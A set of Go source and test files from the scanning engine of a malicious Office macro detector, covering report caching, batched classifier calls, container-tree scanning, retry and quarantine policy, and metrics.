		}
	}
}

// syncBuffer is a goroutine-safe bytes.Buffer for collecting audit output
// from concurrent workers.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}
