package scan

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"repro/internal/cfb"
	"repro/internal/core"
	"repro/internal/corpus"
	"repro/internal/faultinject"
	"repro/internal/hostile"
	"repro/internal/ovba"
)

// cacheDetector trains a private detector for the cache tests, so cache
// attachment and limit changes cannot leak into the package's shared
// fixture detector.
func cacheDetector(t *testing.T) *core.Detector {
	t.Helper()
	spec := corpus.SmallSpec()
	spec.BenignMacros, spec.BenignObfuscated = 120, 20
	spec.MaliciousMacros, spec.MaliciousObfuscated = 60, 55
	spec.BenignMaxLen = 4000
	d := corpus.GenerateMacros(spec)
	det, err := core.NewDetector(core.AlgoRF, core.FeatureSetV, 7)
	if err != nil {
		t.Fatal(err)
	}
	if err := det.Train(d.Sources(), d.Labels()); err != nil {
		t.Fatal(err)
	}
	return det
}

// hostileCorpus assembles clean, corrupted, degraded and bomb documents
// with every document duplicated once, so a cached run exercises hits,
// misses, errors and the poisoning guard in one pass.
func hostileCorpus(t *testing.T) []Document {
	t.Helper()
	d := corpus.GenerateMacros(corpus.SmallSpec())
	files, err := d.BuildFiles()
	if err != nil {
		t.Fatal(err)
	}
	var docs []Document
	for i, f := range files {
		if i >= 8 {
			break
		}
		docs = append(docs, Document{Name: f.Name, Data: f.Data})
	}
	valid, err := faultinject.ValidDoc()
	if err != nil {
		t.Fatal(err)
	}
	docs = append(docs, Document{Name: "valid.doc", Data: valid})
	for _, c := range faultinject.Truncations(valid)[:4] {
		docs = append(docs, Document{Name: c.Name, Data: c.Data})
	}
	for _, c := range faultinject.BitFlips(valid, 42, 3) {
		docs = append(docs, Document{Name: c.Name, Data: c.Data})
	}
	partial, err := faultinject.PartialCorruption()
	if err != nil {
		t.Fatal(err)
	}
	docs = append(docs, Document{Name: "partial.doc", Data: partial.Data})
	// Duplicate the whole corpus so half of the run repeats earlier bytes.
	dup := make([]Document, 0, 2*len(docs))
	for _, doc := range docs {
		dup = append(dup, doc, Document{Name: doc.Name + ".copy", Data: doc.Data})
	}
	return dup
}

// reportFingerprint reduces one scan outcome to comparable bytes: the wire
// JSON for successes, the error string for failures.
func reportFingerprint(t *testing.T, r Result) string {
	t.Helper()
	if r.Err != nil {
		return "err:" + r.Err.Error()
	}
	blob, err := json.Marshal(r.Report.JSON())
	if err != nil {
		t.Fatal(err)
	}
	return string(blob)
}

// TestDocCacheDeterminism asserts the cached engine — macro cache and
// document cache attached, scanned cold and then warm — produces
// byte-identical wire reports to an uncached engine over a corpus mixing
// clean, duplicated, corrupted, degraded and erroring documents.
func TestDocCacheDeterminism(t *testing.T) {
	det := cacheDetector(t)
	docs := hostileCorpus(t)
	ctx := context.Background()

	uncached, _, err := New(det, 4).ScanAll(ctx, docs)
	if err != nil {
		t.Fatal(err)
	}

	det.SetMacroCache(core.NewMacroCache(4096, 0))
	engine := New(det, 4)
	engine.SetDocCache(NewDocCache(1024, 0))
	cold, coldStats, err := engine.ScanAll(ctx, docs)
	if err != nil {
		t.Fatal(err)
	}
	warm, warmStats, err := engine.ScanAll(ctx, docs)
	if err != nil {
		t.Fatal(err)
	}

	for i := range docs {
		want := reportFingerprint(t, uncached[i])
		if got := reportFingerprint(t, cold[i]); got != want {
			t.Errorf("%s: cold cached run differs from uncached:\n got %s\nwant %s",
				docs[i].Name, got, want)
		}
		if got := reportFingerprint(t, warm[i]); got != want {
			t.Errorf("%s: warm cached run differs from uncached:\n got %s\nwant %s",
				docs[i].Name, got, want)
		}
	}

	// The warm run must serve every clean document from the cache; errors
	// and degraded reports are never cached, so they re-run the pipeline.
	clean := 0
	for _, r := range uncached {
		if r.Err == nil && !r.Report.Degraded {
			clean++
		}
	}
	if warmStats.CacheHits != int64(clean) {
		t.Errorf("warm CacheHits = %d, want %d (clean documents)", warmStats.CacheHits, clean)
	}
	if coldStats.CacheHits == 0 {
		t.Error("cold run with duplicated corpus produced no cache hits")
	}
	for i, r := range warm {
		if r.Err == nil && !r.Report.Degraded && !r.CacheHit {
			t.Errorf("%s: clean document not served from cache on warm run", docs[i].Name)
		}
		if (r.Err != nil || (r.Report != nil && r.Report.Degraded)) && r.CacheHit {
			t.Errorf("%s: error/degraded outcome served from cache", docs[i].Name)
		}
	}
}

// TestDocCacheFeatureSetIsolation asserts that document-cache entries are
// keyed by the detector's feature-set identity: two engines over different
// feature sets sharing one DocCache never serve each other's reports, and
// the second engine's verdicts match a cache-free run exactly.
func TestDocCacheFeatureSetIsolation(t *testing.T) {
	spec := corpus.SmallSpec()
	spec.BenignMacros, spec.BenignObfuscated = 120, 20
	spec.MaliciousMacros, spec.MaliciousObfuscated = 60, 55
	spec.BenignMaxLen = 4000
	d := corpus.GenerateMacros(spec)
	train := func(fs core.FeatureSet) *core.Detector {
		det, err := core.NewDetector(core.AlgoRF, fs, 7)
		if err != nil {
			t.Fatal(err)
		}
		if err := det.Train(d.Sources(), d.Labels()); err != nil {
			t.Fatal(err)
		}
		return det
	}
	detV := train(core.FeatureSetV)
	detA := train(core.FeatureSetAPI)
	if detV.FeatureSetID() == detA.FeatureSetID() {
		t.Fatal("distinct feature sets share a cache identity")
	}

	files, err := d.BuildFiles()
	if err != nil {
		t.Fatal(err)
	}
	var docs []Document
	for i, f := range files {
		if i >= 8 {
			break
		}
		docs = append(docs, Document{Name: f.Name, Data: f.Data})
	}
	ctx := context.Background()

	fresh, _, err := New(detA, 2).ScanAll(ctx, docs)
	if err != nil {
		t.Fatal(err)
	}

	shared := NewDocCache(1024, 0)
	engV := New(detV, 2)
	engV.SetDocCache(shared)
	if _, _, err := engV.ScanAll(ctx, docs); err != nil {
		t.Fatal(err)
	}

	engA := New(detA, 2)
	engA.SetDocCache(shared)
	got, stats, err := engA.ScanAll(ctx, docs)
	if err != nil {
		t.Fatal(err)
	}
	if stats.CacheHits != 0 {
		t.Errorf("API engine got %d hits from V-keyed entries (poisoned reads)", stats.CacheHits)
	}
	for i := range docs {
		if got[i].CacheHit {
			t.Errorf("%s: served from another feature set's cache entry", docs[i].Name)
		}
		if reportFingerprint(t, got[i]) != reportFingerprint(t, fresh[i]) {
			t.Errorf("%s: shared-cache report differs from cache-free run", docs[i].Name)
		}
	}

	// Same-engine warm pass still hits: the salt only separates feature
	// sets, it doesn't break caching within one.
	warm, warmStats, err := engA.ScanAll(ctx, docs)
	if err != nil {
		t.Fatal(err)
	}
	if warmStats.CacheHits == 0 {
		t.Error("salting broke same-feature-set cache hits")
	}
	for i := range docs {
		if reportFingerprint(t, warm[i]) != reportFingerprint(t, fresh[i]) {
			t.Errorf("%s: warm report differs", docs[i].Name)
		}
	}
}

// bigModuleDoc builds a two-module document whose first module is large
// enough to breach a small MaxMacroSourceBytes budget while the second
// stays comfortably under it.
func bigModuleDoc(t *testing.T) []byte {
	t.Helper()
	var sb strings.Builder
	sb.WriteString("Sub BigPayload()\n    Dim total As Long\n")
	for sb.Len() < 10*1024 {
		sb.WriteString("    total = total + 12345\n")
	}
	sb.WriteString("End Sub\n")
	p := &ovba.Project{Name: "CachePoison", Modules: []ovba.Module{
		{Name: "Big", Source: sb.String()},
		{Name: "Small", Source: "Sub Small()\n" +
			strings.Repeat("    Call MsgBox(\"significant module body padding\")\n", 5) +
			"End Sub\n"},
	}}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, "Macros"); err != nil {
		t.Fatal(err)
	}
	data, err := b.Bytes()
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// TestDegradedNotCached asserts the cache-poisoning guard: a report
// degraded by resource limits is never cached, so raising the limits
// between two scans of the same bytes observes the full re-evaluation
// instead of a stale partial verdict.
func TestDegradedNotCached(t *testing.T) {
	det := cacheDetector(t)
	doc := Document{Name: "big.doc", Data: bigModuleDoc(t)}
	engine := New(det, 1)
	dc := NewDocCache(128, 0)
	engine.SetDocCache(dc)
	ctx := context.Background()

	det.SetLimits(hostile.Limits{MaxMacroSourceBytes: 1024})
	constrained, _, err := engine.ScanAll(ctx, []Document{doc})
	if err != nil {
		t.Fatal(err)
	}
	r := constrained[0]
	if r.Err != nil {
		t.Fatalf("constrained scan failed outright: %v", r.Err)
	}
	if !r.Report.Degraded || len(r.Report.Macros) != 1 {
		t.Fatalf("constrained scan should degrade to 1 macro, got degraded=%v macros=%d",
			r.Report.Degraded, len(r.Report.Macros))
	}
	if st := dc.Stats(); st.Entries != 0 {
		t.Fatalf("degraded report was cached: %+v", st)
	}

	det.SetLimits(hostile.Limits{})
	full, _, err := engine.ScanAll(ctx, []Document{doc})
	if err != nil {
		t.Fatal(err)
	}
	r = full[0]
	if r.CacheHit {
		t.Fatal("raised-limits scan served from cache instead of re-evaluating")
	}
	if r.Report.Degraded || len(r.Report.Macros) != 2 {
		t.Fatalf("raised-limits scan should see both macros, got degraded=%v macros=%d",
			r.Report.Degraded, len(r.Report.Macros))
	}

	// The clean report is cacheable; a third scan is a hit with both macros.
	again, stats, err := engine.ScanAll(ctx, []Document{doc})
	if err != nil {
		t.Fatal(err)
	}
	r = again[0]
	if !r.CacheHit || stats.CacheHits != 1 {
		t.Fatalf("third scan should hit the cache: hit=%v stats=%+v", r.CacheHit, stats)
	}
	if len(r.Report.Macros) != 2 {
		t.Fatalf("cached report lost a macro: %d", len(r.Report.Macros))
	}
}
