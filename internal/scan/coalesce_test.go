package scan

import (
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

// countingPredict returns a deterministic per-row predictor that records
// how many batch calls it served and how many rows each carried.
func countingPredict(calls *atomic.Int64, batches *[]int, mu *sync.Mutex) func([][]float64) ([]int, []float64) {
	return func(X [][]float64) ([]int, []float64) {
		calls.Add(1)
		if mu != nil {
			mu.Lock()
			*batches = append(*batches, len(X))
			mu.Unlock()
		}
		labels := make([]int, len(X))
		scores := make([]float64, len(X))
		for i, x := range X {
			scores[i] = x[0] * 2
			if scores[i] >= 1 {
				labels[i] = 1
			}
		}
		return labels, scores
	}
}

func TestCoalescerDisabledPassesThrough(t *testing.T) {
	var calls atomic.Int64
	c := NewCoalescer(countingPredict(&calls, nil, nil), 0, 8)
	for i := 0; i < 3; i++ {
		labels, scores := c.Predict([][]float64{{0.75}})
		if labels[0] != 1 || scores[0] != 1.5 {
			t.Fatalf("passthrough verdict wrong: %d/%v", labels[0], scores[0])
		}
	}
	if calls.Load() != 3 {
		t.Fatalf("disabled coalescer made %d calls, want 3 (one per Predict)", calls.Load())
	}
	// A nil coalescer behaves like a plain function table miss elsewhere;
	// zero-row input must not hang waiting for followers.
	if labels, _ := c.Predict(nil); len(labels) != 0 {
		t.Fatal("empty input should return empty output")
	}
}

func TestCoalescerMergesConcurrentCallers(t *testing.T) {
	var calls atomic.Int64
	var batches []int
	var mu sync.Mutex
	// A long window so the flush is driven by maxRows, not the clock.
	c := NewCoalescer(countingPredict(&calls, &batches, &mu), time.Second, 4)

	var wg sync.WaitGroup
	results := make([][]float64, 2)
	for g := 0; g < 2; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			base := float64(g) + 1
			_, scores := c.Predict([][]float64{{base}, {base + 0.25}})
			results[g] = scores
		}(g)
	}
	wg.Wait()
	if got := calls.Load(); got != 1 {
		t.Fatalf("4 rows across 2 callers took %d predict calls, want 1", got)
	}
	mu.Lock()
	if len(batches) != 1 || batches[0] != 4 {
		t.Fatalf("batch sizes %v, want [4]", batches)
	}
	mu.Unlock()
	for g := 0; g < 2; g++ {
		base := float64(g) + 1
		if results[g][0] != base*2 || results[g][1] != (base+0.25)*2 {
			t.Fatalf("caller %d got misrouted scores %v", g, results[g])
		}
	}
}

func TestCoalescerWindowFlushesLoneCaller(t *testing.T) {
	var calls atomic.Int64
	c := NewCoalescer(countingPredict(&calls, nil, nil), 5*time.Millisecond, 64)
	var rows, callers int
	var wait time.Duration
	c.SetObserver(func(r, n int, w time.Duration) { rows, callers, wait = r, n, w })
	start := time.Now()
	labels, scores := c.Predict([][]float64{{0.5}})
	if time.Since(start) > time.Second {
		t.Fatal("lone caller waited far longer than the window")
	}
	if labels[0] != 1 || scores[0] != 1.0 {
		t.Fatalf("verdict wrong after window flush: %d/%v", labels[0], scores[0])
	}
	if rows != 1 || callers != 1 || wait <= 0 {
		t.Fatalf("observer saw rows=%d callers=%d wait=%v", rows, callers, wait)
	}
}

func TestCoalescerOversizeBatchBypasses(t *testing.T) {
	var calls atomic.Int64
	var batches []int
	var mu sync.Mutex
	c := NewCoalescer(countingPredict(&calls, &batches, &mu), time.Second, 4)
	X := make([][]float64, 9)
	for i := range X {
		X[i] = []float64{float64(i)}
	}
	start := time.Now()
	_, scores := c.Predict(X)
	if time.Since(start) > 500*time.Millisecond {
		t.Fatal("oversize batch waited on the window")
	}
	for i := range X {
		if scores[i] != float64(i)*2 {
			t.Fatalf("row %d score %v", i, scores[i])
		}
	}
}

// TestCoalescerConcurrentStress hammers one coalescer from many goroutines
// and checks every caller gets exactly its own rows' verdicts back. Run
// under -race this also proves the leader/follower handoff is clean.
func TestCoalescerConcurrentStress(t *testing.T) {
	var calls atomic.Int64
	c := NewCoalescer(countingPredict(&calls, nil, nil), 200*time.Microsecond, 16)
	const goroutines = 24
	const iters = 40
	var wg sync.WaitGroup
	errs := make(chan string, goroutines)
	for g := 0; g < goroutines; g++ {
		wg.Add(1)
		go func(g int) {
			defer wg.Done()
			for i := 0; i < iters; i++ {
				n := 1 + (g+i)%3
				X := make([][]float64, n)
				for j := range X {
					X[j] = []float64{float64(g*1000 + i*10 + j)}
				}
				labels, scores := c.Predict(X)
				if len(labels) != n || len(scores) != n {
					errs <- "short result"
					return
				}
				for j := range X {
					if scores[j] != X[j][0]*2 {
						errs <- "misrouted row"
						return
					}
				}
			}
		}(g)
	}
	wg.Wait()
	close(errs)
	for e := range errs {
		t.Fatal(e)
	}
	total := int64(goroutines * iters)
	if got := calls.Load(); got >= total {
		t.Fatalf("coalescer made %d predict calls for %d Predicts — nothing merged", got, total)
	}
}
