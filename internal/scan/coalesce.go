package scan

import (
	"sync"
	"time"
)

// Coalescer merges feature rows from concurrent scans into one batched
// classifier call. The compiled forest's batch kernel amortizes its tree
// walks across rows, so under concurrent load (a mail gateway fanning one
// campaign across many inboxes) scoring 64 rows in one call is far cheaper
// than 64 single-row calls — but individual documents usually carry only a
// handful of macros each. The coalescer closes that gap: the first caller
// in an idle window becomes the batch leader and waits up to the window
// for followers; everyone's rows are scored in one call and the results
// are routed back per caller.
//
// The window bounds added latency. A caller never waits longer than the
// window, and a batch that reaches maxRows flushes immediately. A zero
// window disables coalescing entirely — every call passes straight
// through, leaving single-request latency untouched.
type Coalescer struct {
	predict func(X [][]float64) ([]int, []float64)
	window  time.Duration
	maxRows int

	mu  sync.Mutex
	cur *coalesceBatch

	observe func(rows, callers int, wait time.Duration)
}

type coalesceBatch struct {
	rows    [][]float64
	callers int
	filled  bool          // maxRows reached; full has been closed
	full    chan struct{} // closed to wake the leader early
	done    chan struct{} // closed by the leader once labels/scores are set
	labels  []int
	scores  []float64
}

// NewCoalescer wraps predict in a latency-budgeted micro-batcher. predict
// must be safe for concurrent calls and return one label and one score per
// input row. window <= 0 disables coalescing (Predict becomes a direct
// passthrough); maxRows <= 0 defaults to 256 rows per batch.
func NewCoalescer(predict func(X [][]float64) ([]int, []float64), window time.Duration, maxRows int) *Coalescer {
	if maxRows <= 0 {
		maxRows = 256
	}
	return &Coalescer{predict: predict, window: window, maxRows: maxRows}
}

// SetObserver installs a metrics hook invoked once per flushed batch with
// the batch's row count, the number of callers merged into it, and how
// long the leader held the window open. Configure before serving traffic.
func (c *Coalescer) SetObserver(fn func(rows, callers int, wait time.Duration)) {
	c.observe = fn
}

// Window reports the configured coalescing window (0 = disabled).
func (c *Coalescer) Window() time.Duration { return c.window }

// Predict scores X, possibly batched with rows from concurrent callers.
// Results are positionally aligned with X and bit-identical to a direct
// predict call — batching changes only when the forest runs, never what
// it computes.
func (c *Coalescer) Predict(X [][]float64) ([]int, []float64) {
	if c == nil || c.window <= 0 || len(X) == 0 || len(X) >= c.maxRows {
		// Disabled, empty, or already a full batch on its own: no win from
		// holding it back.
		return c.predict(X)
	}
	start := time.Now()
	c.mu.Lock()
	b := c.cur
	leader := b == nil
	if leader {
		b = &coalesceBatch{full: make(chan struct{}), done: make(chan struct{})}
		c.cur = b
	}
	off := len(b.rows)
	b.rows = append(b.rows, X...)
	b.callers++
	if len(b.rows) >= c.maxRows && !b.filled {
		b.filled = true
		c.cur = nil // batch is closed to new callers; wake the leader
		close(b.full)
	}
	c.mu.Unlock()

	if leader {
		t := time.NewTimer(c.window)
		select {
		case <-t.C:
		case <-b.full:
			t.Stop()
		}
		c.mu.Lock()
		if c.cur == b {
			c.cur = nil // detach: late arrivals start a fresh batch
		}
		c.mu.Unlock()
		wait := time.Since(start)
		b.labels, b.scores = c.predict(b.rows)
		if c.observe != nil {
			c.observe(len(b.rows), b.callers, wait)
		}
		close(b.done)
	} else {
		<-b.done
	}
	return b.labels[off : off+len(X)], b.scores[off : off+len(X)]
}
