package scan

import (
	"context"
	"errors"

	"repro/internal/core"
	"repro/internal/extract"
	"repro/internal/hostile"
	"repro/internal/walker"
)

// TreeDoc is the outcome for one document discovered by the container
// walker inside a submitted file. Exactly one of Report and Err is set;
// walk-level failures (a child that could not even be opened) appear as
// TreeDocs with Err set and no Report.
type TreeDoc struct {
	// Path is the document's container provenance ("" for the submitted
	// file itself) — surfaced as ReportJSON.ContainerPath.
	Path string
	// Report is the per-document classification report.
	Report *core.FileReport
	// Err is the walk or scan failure for this document.
	Err error
}

// ScanTree recursively opens data as a container tree (zip → docm →
// embedded OLE / nested zip) and scans every discovered document, under
// the detector's configured resource limits plus the context deadline.
// It returns one TreeDoc per discovered document or lost child, a
// degraded flag (some children were lost or some reports are partial),
// and an error only when the whole walk failed — root not a container,
// root container hostile, or nothing scannable recovered.
//
// The walk shares one hostile.Budget across the whole tree, so an
// archive bomb anywhere in the container exhausts the submission's
// budget rather than getting a fresh allowance per layer. Each surviving
// document is then scanned through the ordinary pipeline (its own
// per-document budget, panic isolation, detector limits).
func ScanTree(ctx context.Context, det *core.Detector, data []byte) ([]TreeDoc, bool, error) {
	bud := hostile.NewBudget(det.Limits())
	if dl, ok := ctx.Deadline(); ok {
		bud.WithDeadline(dl)
	}
	tree, err := walker.Walk(data, bud)
	if err != nil {
		return nil, false, err
	}
	out := make([]TreeDoc, 0, len(tree.Docs)+len(tree.Issues))
	degraded := tree.Degraded
	for _, d := range tree.Docs {
		rep, _, err := ScanOneCtx(ctx, det, d.Data)
		out = append(out, TreeDoc{Path: d.Path, Report: rep, Err: err})
		// A macro-free document is a clean negative verdict, not a loss.
		if (err != nil && !errors.Is(err, extract.ErrNoMacros)) || (rep != nil && rep.Degraded) {
			degraded = true
		}
	}
	for _, is := range tree.Issues {
		out = append(out, TreeDoc{Path: is.Path, Err: is.Err})
	}
	return out, degraded, nil
}
