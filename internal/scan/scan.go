// Package scan is the concurrent batch-scanning engine: a bounded
// worker pool that runs the paper's extract → featurize → classify
// pipeline (§IV) over a stream of Office documents. The pipeline is
// embarrassingly parallel across documents — the property MEADE-style
// mail-gateway deployments rely on — so throughput scales with
// GOMAXPROCS while per-file results stay identical to sequential
// Detector.ScanFile calls.
package scan

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"runtime"
	"runtime/debug"
	"runtime/pprof"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/cache"
	"repro/internal/core"
	"repro/internal/hostile"
	"repro/internal/telemetry"
)

// DocCache memoizes whole-document scan reports keyed by the SHA-256 of
// the file bytes, so re-submitted attachments (the common case in a mail
// gateway, where one campaign fans the same document out to many inboxes)
// skip the extract → featurize → classify pipeline entirely.
//
// Only clean, complete reports are cached: a degraded report reflects the
// resource limits in force when it was computed, and an error (including
// quarantine-worthy budget exhaustion) may be transient — caching either
// would let one constrained evaluation poison every later scan of the same
// bytes. Those documents re-run the pipeline on every submission.
type DocCache struct {
	c *cache.Cache[*core.FileReport]
}

// NewDocCache returns a cache bounded by maxEntries entries and maxBytes
// charged bytes (either ≤ 0 lifts that bound; both ≤ 0 disables the cache,
// returning nil, which every method tolerates).
func NewDocCache(maxEntries int, maxBytes int64) *DocCache {
	c := cache.New[*core.FileReport](maxEntries, maxBytes)
	if c == nil {
		return nil
	}
	return &DocCache{c: c}
}

// Stats reports the cache's hit/miss/eviction counters and current size.
func (d *DocCache) Stats() cache.Stats {
	if d == nil {
		return cache.Stats{}
	}
	return d.c.Stats()
}

// Get returns the cached report for a document hash, if any.
func (d *DocCache) Get(k cache.Key) (*core.FileReport, bool) {
	if d == nil {
		return nil, false
	}
	return d.c.Get(k)
}

// Put caches a finished report under the document hash. Nil and degraded
// reports are refused (see the poisoning note on DocCache).
func (d *DocCache) Put(k cache.Key, r *core.FileReport) {
	if d == nil || r == nil || r.Degraded {
		return
	}
	d.c.Put(k, r, docCost(r))
}

// docCost approximates a report's retained memory: each macro anchors its
// source string and single parse (a small multiple of the source length),
// plus the recovered storage strings.
func docCost(r *core.FileReport) int64 {
	cost := int64(512)
	for _, m := range r.Macros {
		cost += 4*int64(len(m.Source)) + 512
	}
	for _, s := range r.StorageStrings {
		cost += int64(len(s))
	}
	return cost
}

// Document is one input to the engine.
type Document struct {
	// Name identifies the document in results (a path, usually).
	Name string
	// Data is the raw file content.
	Data []byte
}

// Result is the scan outcome for one document. Exactly one of Report and
// Err is set (a macro-free document reports extract.ErrNoMacros in Err).
type Result struct {
	// Index is the document's position in the input order.
	Index int
	// Name echoes the input document name.
	Name string
	// Report is the per-file classification report.
	Report *core.FileReport
	// Timings is the per-stage wall-clock attribution for this document
	// (extract / featurize / classify), valid even when Err is set for the
	// stages that ran.
	Timings core.Timings
	// Err is the extraction or classification failure, if any.
	Err error
	// Attempts is the number of pipeline attempts made: 1 normally,
	// more when the engine's retry policy re-ran a transient failure,
	// 0 when the report was served from the document cache.
	Attempts int
	// CacheHit marks a report served from the engine's document cache
	// without re-running the pipeline.
	CacheHit bool
	// Quarantined marks a document whose failure exhausted its resource
	// budget (decompression bomb, deadline overrun, limit breach).
	// Retrying such a document is pointless — it needs isolation and a
	// human, not another pass through the pipeline.
	Quarantined bool
	// TraceID / RequestID carry the distributed-trace and HTTP-request
	// identity of the scan, when one exists (request-scoped callers set
	// them; batch scans leave them empty). They flow into audit events.
	TraceID   string
	RequestID string
}

// PanicError wraps a panic recovered while scanning one document, so a
// malformed input that trips a parser bug surfaces as a per-document error
// instead of taking down the whole process.
type PanicError struct {
	// Value is the recovered panic value.
	Value any
	// Stack is the goroutine stack captured at recovery.
	Stack []byte
}

// Error implements the error interface.
func (e *PanicError) Error() string {
	return fmt.Sprintf("scan: panic during scan: %v", e.Value)
}

// ScanOne scans a single document with panic isolation: a panic anywhere
// in the extract → featurize → classify pipeline is recovered and returned
// as a *PanicError. This is the entry point request-scoped callers (the
// HTTP daemon) use; Engine workers route through it too.
func ScanOne(det *core.Detector, data []byte) (*core.FileReport, core.Timings, error) {
	return ScanOneCtx(context.Background(), det, data)
}

// ScanOneCtx is ScanOne under a context: the context deadline becomes the
// document's processing deadline, enforced inside the parsing loops, so a
// hostile document cannot pin the calling goroutine past it.
func ScanOneCtx(ctx context.Context, det *core.Detector, data []byte) (report *core.FileReport, tm core.Timings, err error) {
	defer func() {
		if p := recover(); p != nil {
			report, err = nil, &PanicError{Value: p, Stack: debug.Stack()}
		}
	}()
	return det.ScanFileCtx(ctx, data)
}

// Policy is the engine's failure-handling policy.
type Policy struct {
	// MaxRetries is how many times a failed document is re-attempted
	// (0 = no retries). Only failures Retryable approves are retried;
	// budget exhaustion never is.
	MaxRetries int
	// RetryBackoff is the wait before the first retry, doubling per
	// attempt. Defaults to 50ms.
	RetryBackoff time.Duration
	// Retryable decides whether a failure is worth re-running. Defaults
	// to hostile.IsTransient (I/O-flavored errors only — parse failures
	// and budget exhaustion are deterministic and never retried).
	Retryable func(error) bool
}

func (p Policy) withDefaults() Policy {
	if p.RetryBackoff <= 0 {
		p.RetryBackoff = 50 * time.Millisecond
	}
	if p.Retryable == nil {
		p.Retryable = hostile.IsTransient
	}
	return p
}

// Stats aggregates a scan run. Counters are written with atomics while
// workers run; read them after the result channel has closed (Scan) or
// after the call returns (ScanAll), when they are final.
type Stats struct {
	// Files is the number of documents processed (including failures).
	Files int64
	// Macros is the number of significant macros classified.
	Macros int64
	// Skipped is the number of macros below the significance threshold.
	Skipped int64
	// Errors is the number of documents that failed to scan.
	Errors int64
	// Degraded is the number of documents scanned partially: corruption
	// or limits cost some streams, but surviving macros were classified.
	Degraded int64
	// Quarantined is the number of failed documents whose failure
	// exhausted the resource budget (bombs, deadline overruns) — the
	// subset of Errors that warrants isolation rather than a bug report.
	Quarantined int64
	// Retries is the number of re-attempts made under the retry policy.
	Retries int64
	// CacheHits is the number of documents served from the document cache
	// (counted in Files, but contributing no stage time).
	CacheHits int64
	// ExtractNS, FeaturizeNS and ClassifyNS are cumulative per-stage
	// wall-clock nanoseconds summed across workers (their sum can exceed
	// WallNS when workers run in parallel).
	ExtractNS   int64
	FeaturizeNS int64
	ClassifyNS  int64
	// WallNS is the elapsed wall-clock time of the whole run.
	WallNS int64
}

// FilesPerSec is the document throughput of the run.
func (s *Stats) FilesPerSec() float64 { return perSec(s.Files, s.WallNS) }

// MacrosPerSec is the classified-macro throughput of the run.
func (s *Stats) MacrosPerSec() float64 { return perSec(s.Macros, s.WallNS) }

func perSec(n, wallNS int64) float64 {
	if wallNS <= 0 {
		return 0
	}
	return float64(n) / (float64(wallNS) / float64(time.Second))
}

// Engine is a reusable concurrent batch scanner around a trained detector.
type Engine struct {
	det     *core.Detector
	workers int
	policy  Policy
	docs    *DocCache

	// Telemetry (all optional; nil = disabled with no per-document cost).
	traceSink func(*telemetry.Tracer)
	audit     *telemetry.AuditLogger

	// Engine-lifetime gauges/counters read by RegisterMetrics gauge funcs.
	queued    atomic.Int64
	busy      atomic.Int64
	telFiles  atomic.Int64
	telMacros atomic.Int64
	started   time.Time
}

// New returns an engine running at most workers concurrent scans
// (workers <= 0 means GOMAXPROCS).
func New(det *core.Detector, workers int) *Engine {
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	return &Engine{det: det, workers: workers, started: time.Now()}
}

// Workers reports the engine's concurrency bound.
func (e *Engine) Workers() int { return e.workers }

// SetPolicy configures the engine's retry/quarantine policy. Call before
// Scan/ScanAll; the zero Policy (no retries, transient-only detection)
// is the default.
func (e *Engine) SetPolicy(p Policy) { e.policy = p }

// SetDocCache attaches a document-level report cache consulted before each
// scan. A nil cache (the default) disables memoization. The cache is tied
// to the detector's trained model — share it across engines only while
// they share the model, and attach a fresh cache after a model swap. Call
// before Scan/ScanAll.
func (e *Engine) SetDocCache(c *DocCache) { e.docs = c }

// DocCache returns the attached document cache (nil when disabled).
func (e *Engine) DocCache() *DocCache { return e.docs }

// SetTraceSink enables per-document tracing: every scanned document gets
// its own telemetry.Tracer whose finished span tree is handed to sink
// (called concurrently from workers — telemetry.TraceWriter is a ready
// sink). A nil sink disables tracing. Call before Scan/ScanAll.
func (e *Engine) SetTraceSink(sink func(*telemetry.Tracer)) { e.traceSink = sink }

// SetAudit attaches a verdict audit log: one sampled AuditEvent per
// document, carrying the feature vectors, scores, triage summary and
// disposition flags. A nil logger disables auditing. Call before
// Scan/ScanAll.
func (e *Engine) SetAudit(a *telemetry.AuditLogger) { e.audit = a }

// RegisterMetrics publishes the engine's scan gauges on reg: queue depth,
// in-flight workers, cumulative files/macros and their per-second rates
// over the engine's lifetime. Register one engine per registry (the gauge
// funcs capture this engine).
func (e *Engine) RegisterMetrics(reg *telemetry.Registry) {
	reg.GaugeFunc("scan_queue_depth",
		"Documents admitted to the engine but not yet scanning.",
		func() float64 { return float64(e.queued.Load()) })
	reg.GaugeFunc("scan_inflight_workers",
		"Workers currently scanning a document.",
		func() float64 { return float64(e.busy.Load()) })
	reg.GaugeFunc("scan_files_total",
		"Documents scanned over the engine's lifetime.",
		func() float64 { return float64(e.telFiles.Load()) })
	reg.GaugeFunc("scan_macros_total",
		"Significant macros classified over the engine's lifetime.",
		func() float64 { return float64(e.telMacros.Load()) })
	reg.GaugeFunc("scan_files_per_sec",
		"Mean document throughput since the engine was created.",
		func() float64 { return e.rate(e.telFiles.Load()) })
	reg.GaugeFunc("scan_macros_per_sec",
		"Mean macro throughput since the engine was created.",
		func() float64 { return e.rate(e.telMacros.Load()) })
	reg.CounterFunc("scan_cache_hits",
		"Documents served from the document cache.",
		func() int64 { return e.docs.Stats().Hits })
	reg.CounterFunc("scan_cache_misses",
		"Documents that missed the document cache.",
		func() int64 { return e.docs.Stats().Misses })
	reg.CounterFunc("scan_cache_evictions",
		"Reports evicted from the document cache under capacity pressure.",
		func() int64 { return e.docs.Stats().Evictions })
	reg.GaugeFunc("scan_cache_entries",
		"Reports currently held by the document cache.",
		func() float64 { return float64(e.docs.Stats().Entries) })
	reg.GaugeFunc("scan_cache_bytes",
		"Approximate bytes retained by the document cache.",
		func() float64 { return float64(e.docs.Stats().Bytes) })
}

func (e *Engine) rate(n int64) float64 {
	secs := time.Since(e.started).Seconds()
	if secs <= 0 {
		return 0
	}
	return float64(n) / secs
}

// Scan consumes documents from in until it closes or ctx is canceled,
// scanning across the engine's workers. Results arrive on the returned
// channel in completion order (use Result.Index to recover input order);
